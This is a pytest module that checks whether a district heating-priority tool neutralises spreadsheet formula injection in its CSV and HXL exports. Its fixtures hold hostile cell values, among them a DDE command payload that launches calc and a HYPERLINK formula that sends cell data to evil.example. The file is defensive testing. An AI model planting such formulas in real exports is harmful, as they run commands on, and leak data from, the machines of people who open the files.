"""Spreadsheet formula injection: hostile district codes and names through the real pipeline.

A district registry whose codes, names and oblast codes start with ``=``, ``+``, ``-``, ``@``,
tab or CR (the scenario's districts renamed; every input file follows) goes through ``rank``
(CSV and HXL CSV), ``refresh`` (the published list) and the app's downloads (model view and
published view). Read back with the ``csv`` module: no text cell starts with a character a
spreadsheet runs, each hostile value appears with one leading apostrophe, and the numbers
(negative temperatures among them) are exactly the pipeline's.
"""

from __future__ import annotations

import csv

import pandas as pd
import pytest
from appcheck import downloaded
from hardening_support import SCENARIO, csv_rows

from heatneed import pipeline
from heatneed.config import model_params
from heatneed.export import HXL_TAGS
from heatneed.pipeline import PRIORITY_COLUMNS

#: What spreadsheets run ([OWASPCSV]), written out here rather than taken from the code under test.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CODES = pd.read_csv(SCENARIO / "districts.csv", dtype=str)["district_code"].tolist()
HOSTILE_CODES = ["=1+1", "+UA80", "-UA81", "@SUM(A1)", "\t=UA82", "\r=UA83", "=cmd|' /C calc'!A0", "UA84",
                 "-2", "+380441234567"]
HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
                 "\t=1+1", "\r=2+2", "=1", "Obolonskyi", "-", "+"]
HOSTILE_ADMIN1 = ["=A1", "@A1", "+A1", "-A1", "\t-A1", "UA80", "UA80", "UA80", "UA80", "UA80"]
TEXT_COLUMNS = ["district_code", "district_name", "admin1_code", "severity_label", "outage_status", "main_driver",
                "completeness", "forecast_issued_at", "data_as_of", "district_name_uk", "data_state"]
NUMBER_COLUMNS = [c for c in PRIORITY_COLUMNS if c not in TEXT_COLUMNS]


def expected_cell(raw: str) -> str:
    """What an export must hold for an input value: readers drop surrounding whitespace (so a
    leading tab or CR goes), then text starting like a formula gets one apostrophe."""
    value = raw.strip()
    return "'" + value if value.startswith(FORMULA_STARTS) else value


@pytest.fixture(scope="module")
def hostile_scenario(tmp_path_factory):
    """The embedded scenario with hostile codes, names and oblast codes in every file."""
    folder = tmp_path_factory.mktemp("hostile")
    renamed = dict(zip(CODES, HOSTILE_CODES))
    for role in ("districts", "unheated", "outages", "forecast"):
        frame = pd.read_csv(SCENARIO / f"{role}.csv", dtype=str, keep_default_na=False)
        frame["district_code"] = frame["district_code"].map(renamed)
        if role == "districts":
            frame["district_name"], frame["admin1_code"] = HOSTILE_NAMES, HOSTILE_ADMIN1
        with open(folder / f"{role}.csv", "w", encoding="utf-8", newline="") as fh:
            csv.writer(fh, lineterminator="\r\n").writerows([frame.columns, *frame.itertuples(index=False)])
    return folder


@pytest.fixture(scope="module")
def hostile_ranking(hostile_scenario):
    return pipeline.rank(pipeline.load_inputs(scenario=hostile_scenario), model_params()).priority


def check_export(data: bytes, priority: pd.DataFrame, hxl: bool = False) -> None:
    """Every cell of an exported list against the ranking it came from (see module docstring)."""
    rows = csv_rows(data)
    assert rows[0] == PRIORITY_COLUMNS
    if hxl:
        assert rows[1] == [HXL_TAGS[c] for c in PRIORITY_COLUMNS]
    body = rows[2 if hxl else 1:]
    assert len(body) == len(priority) == len(HOSTILE_CODES)
    table = pd.DataFrame(body, columns=PRIORITY_COLUMNS)
    for col in TEXT_COLUMNS:
        runs = [cell for cell in table[col] if cell.startswith(FORMULA_STARTS)]
        assert not runs, f"{col}: {runs}"
    by_code = dict(zip(table["district_code"], table.to_dict("records")))
    for code, name, admin1 in zip(HOSTILE_CODES, HOSTILE_NAMES, HOSTILE_ADMIN1):
        row = by_code[expected_cell(code)]
        assert row["district_name"] == expected_cell(name)
        assert row["admin1_code"] == expected_cell(admin1)
    neutralised = sum(cell.startswith("'") for col in ("district_code", "district_name", "admin1_code")
                      for cell in table[col])
    hostile = sum(expected_cell(v).startswith("'") for v in HOSTILE_CODES + HOSTILE_NAMES + HOSTILE_ADMIN1)
    assert neutralised == hostile == 23  # 9 codes, 9 names, 5 oblast codes: those and nothing else
    for col in NUMBER_COLUMNS:  # numbers untouched: -27.7 stays -27.7, not '-27.7
        for cell, value in zip(table[col], priority[col]):
            if pd.isna(value):
                assert cell == "", (col, cell)
            else:
                assert float(cell) == pytest.approx(float(value), abs=1e-9), (col, cell, value)
    assert (table["min_temp_c"].astype(float) < 0).all()  # the negative numbers were there to keep


def test_the_hostile_scenario_is_read_as_written(hostile_ranking):
    """The values reach the ranking (stripped of surrounding whitespace), so the exports are tested."""
    assert sorted(hostile_ranking["district_code"]) == sorted(c.strip() for c in HOSTILE_CODES)
    assert sorted(hostile_ranking["district_name"]) == sorted(n.strip() for n in HOSTILE_NAMES)


@pytest.mark.parametrize("hxl", [False, True], ids=["csv", "hxl"])
def test_rank_neutralises_formulas_in_csv_and_hxl(hostile_scenario, hostile_ranking, run, tmp_path, hxl):
    out = tmp_path / "priority.csv"
    code, err = run("rank", "--scenario", hostile_scenario, "--out", out, *(["--hxl"] if hxl else []))
    assert code == 0, err
    check_export(out.read_bytes(), hostile_ranking, hxl=hxl)


def test_refresh_publishes_a_neutralised_list(hostile_scenario, hostile_ranking, run, tmp_path):
    out = tmp_path / "out"
    code, err = run("refresh", "--scenario", hostile_scenario, "--forecast", hostile_scenario / "forecast.csv",
                    "--output-dir", out)
    assert code == 0, err
    check_export((out / "latest" / "priority.csv").read_bytes(), hostile_ranking)
    dated = sorted((out / "lists").glob("priority_*.csv"))
    assert [p.read_bytes() for p in dated] == [(out / "latest" / "priority.csv").read_bytes()]


@pytest.fixture
def hostile_embedded(hostile_scenario, monkeypatch):
    """The app's embedded scenario replaced by the hostile one (cached parses dropped around it)."""
    import streamlit as st

    st.cache_resource.clear()
    monkeypatch.setattr(pipeline, "EMBEDDED_SCENARIO", hostile_scenario)
    yield hostile_scenario
    st.cache_resource.clear()


def test_app_downloads_neutralise_formulas(app, hostile_embedded, hostile_ranking):
    at = app()
    assert not at.exception
    check_export(downloaded(at, "download_csv").content, hostile_ranking)
    check_export(downloaded(at, "download_hxl").content, hostile_ranking, hxl=True)


def test_app_downloads_of_a_published_hostile_list_stay_neutralised(app, run, hostile_scenario, hostile_ranking,
                                                                    nothing_published):
    """The published list is read back (apostrophes included) and exported again: not doubled."""
    code, err = run("refresh", "--scenario", hostile_scenario, "--forecast", hostile_scenario / "forecast.csv",
                    "--output-dir", nothing_published)
    assert code == 0, err
    at = app()
    assert at.radio(key="view").value == "published"
    csv_bytes = downloaded(at, "download_csv").content
    assert csv_bytes == (nothing_published / "latest" / "priority.csv").read_bytes()
    check_export(csv_bytes, hostile_ranking)
    check_export(downloaded(at, "download_hxl").content, hostile_ranking, hxl=True)
